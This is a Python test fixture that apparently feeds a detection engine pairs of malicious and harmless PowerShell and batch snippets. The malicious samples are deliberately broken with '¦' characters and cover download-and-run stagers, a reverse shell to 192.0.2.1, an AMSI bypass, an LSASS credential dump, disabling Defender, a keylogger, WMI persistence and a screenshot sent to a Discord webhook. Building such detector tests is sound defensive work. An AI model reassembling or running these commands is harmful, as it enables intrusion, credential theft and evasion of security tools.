# ruff: noqa: E501 -- a line of a script is one line here, too
from tests.engine.script_texts import encoded, pair

FETCH = "(New-Object Net.Web¦Client).Down¦loadString('https://example.com/a')"
HONEST = "$text = Get-Content .\\list.txt\n$text | ForEach-Object { Write-Output $_ }\n"

CASES = {
    "powershell.stager": pair(
        "a.ps1",
        "$d = $wc.Download¦Data('https://example.com/a')\nie¦x (-join ($d | % { [char]($_ -bx¦or 7) }))\n",
        "$d = $wc.DownloadData('https://example.com/a')\n[IO.File]::WriteAllBytes('a.bin', $d)\n",
    ),
    "powershell.encoded_command": pair(
        "a.bat",
        f"powershell -NoProfile -enc {encoded('Get-Date | Out-File C:/now.txt')}\r\n",
        "powershell -NoProfile -File now.ps1\r\n",
    ),
    "powershell.download_run": pair("a.ps1", f"I¦EX {FETCH}\n", f"$version = {FETCH}\nWrite-Output $version\n"),
    "powershell.hidden_window": pair(
        "a.bat", "powershell -WindowStyle Hid¦den -File job.ps1\r\n", "powershell -File job.ps1\r\n"
    ),
    "powershell.policy_bypass": pair(
        "a.bat",
        "powershell -ExecutionPolicy By¦pass -File job.ps1\r\n",
        "powershell -ExecutionPolicy RemoteSigned -File job.ps1\r\n",
    ),
    "powershell.amsi_bypass": pair(
        "a.ps1",
        "[Ref].Assembly.GetType('System.Management.Automation.Am¦siUtils').GetField('am¦siInitFailed','NonPublic,Static').SetValue($null,$true)\n",
        "# how Am¦siUtils works is told in the manual\n$x = [Ref].Assembly.GetType('System.String')\n",
    ),
    "powershell.reflection_load": pair(
        "a.ps1",
        "[System.Reflection.Assem¦bly]::Load([Convert]::FromBase64¦String($data)).EntryPoint.Invoke($null, $null)\n",
        "[System.Reflection.Assembly]::LoadFrom('C:\\tools\\lib.dll') | Out-Null\n",
    ),
    "powershell.shellcode": pair(
        "a.ps1",
        '$code = \'[DllImport("kernel32.dll")] public static extern IntPtr Virtual¦Alloc(IntPtr a, uint b, uint c, uint d);'
        " public static extern IntPtr Create¦Thread(IntPtr a);'\n[Byte[]]$b = 1,2\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 2)\n",
        "$code = '[DllImport(\"user32.dll\")] public static extern int MessageBox(int a, string b, string c, int d);'\nAdd-Type -MemberDefinition $code -Name W\n",
    ),
    "powershell.reverse_shell": pair(
        "a.ps1",
        "$c = New-Object System.Net.Sock¦ets.TCPClient('192.0.2.1',4444);$s = $c.GetStream();[byte[]]$b = 0..255|%{0};"
        "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o = (ie¦x $d 2>&1 | Out-String);"
        "$r = [text.encoding]::ASCII.GetBytes($o);$s.Write($r,0,$r.Length)}\n",
        "$c = New-Object System.Net.Sockets.TCPClient('mail.example.com', 25)\nif ($c.Connected) { 'port 25 is open' }\n$c.Close()\n",
    ),
    "powershell.keylogger": pair(
        "a.ps1",
        "$api = Add-Type -MemberDefinition $sig -Name W -PassThru\nfor ($k = 9; $k -le 254; $k++) {\n if ($api::GetAsync¦KeyState($k) -eq -32767) {"
        " $m = $api::MapVirtualKey($k, 3); [IO.File]::AppendAllText($path, $m) } }\n",
        "if ([W.U]::GetAsyncKeyState(27)) { 'Escape was pressed' }\n",
    ),
    "powershell.credential_dump": pair(
        "a.bat",
        "rundll32 C:\\windows\\system32\\coms¦vcs.dll, Mini¦Dump 624 C:\\l.dmp full\r\n",
        "rundll32 printui.dll,PrintUIEntry /il\r\n",
    ),
    "powershell.defender_off": pair(
        "a.ps1",
        "Set-Mp¦Preference -DisableRealtime¦Monitoring $true\n",
        "Set-MpPreference -DisableRealtimeMonitoring $false\n",
    ),
    "powershell.defender_exclusion": pair(
        "a.ps1", "Add-Mp¦Preference -Exclusion¦Path 'C:\\build'\n", "Get-MpPreference | Select-Object *\n"
    ),
    "powershell.wmi_subscription": pair(
        "a.ps1",
        "$f = Set-WmiInstance -Class __Event¦Filter -Arguments $a\n$c = Set-WmiInstance -Class CommandLineEvent¦Consumer -Arguments $b\n"
        "Set-WmiInstance -Class __FilterTo¦ConsumerBinding -Arguments @{Filter=$f;Consumer=$c}\n",
        "Get-WmiObject -Namespace root/subscription -Class __EventFilter\n",
    ),
    "powershell.screen_or_files_sent": pair(
        "a.ps1",
        "$shot.CopyFrom¦Screen(0,0,0,0,$size)\nInvoke-RestMethod -Uri https://discord.com/api/web¦hooks/1/x -Method Post -InFile s.png\n",
        "Invoke-RestMethod -Uri https://hooks.example.com/build -Method Post -Body 'the build is done'\n",
    ),
    "powershell.memory_inject_tool": pair(
        "a.ps1",
        "Invoke-Reflective¦PEInjection -PEBytes $b -ProcId 4\n",
        "Invoke-Command -ComputerName srv1 -ScriptBlock { hostname }\n",
    ),
    "powershell.hidden_download_run": pair(
        "a.bat", f'powershell -w hid¦den -c "I¦EX {FETCH}"\r\n', 'powershell -c "Get-Date"\r\n'
    ),
    "powershell.download_run_odd_place": pair(
        "a.ps1",
        "I¦EX (New-Object Net.Web¦Client).Down¦loadString('http://45.9.148.1/a.txt')\n",
        f"I¦EX {FETCH}\n",
    ),
    "powershell.unprotected_download": pair(
        "a.ps1",
        "Set-Mp¦Preference -DisableRealtime¦Monitoring $true\nInvoke-WebRequest https://example.com/a.exe -OutFile a.exe\n",
        "Invoke-WebRequest https://example.com/a.exe -OutFile a.exe\n",
    ),
    "powershell.excluded_download": pair(
        "a.ps1",
        "Add-Mp¦Preference -Exclusion¦Path C:\\x\nInvoke-WebRequest https://example.com/a.exe -OutFile C:\\x\\a.exe\nStart-Process powershell -ArgumentList '-w hid¦den -File x'\n",
        HONEST,
    ),
}
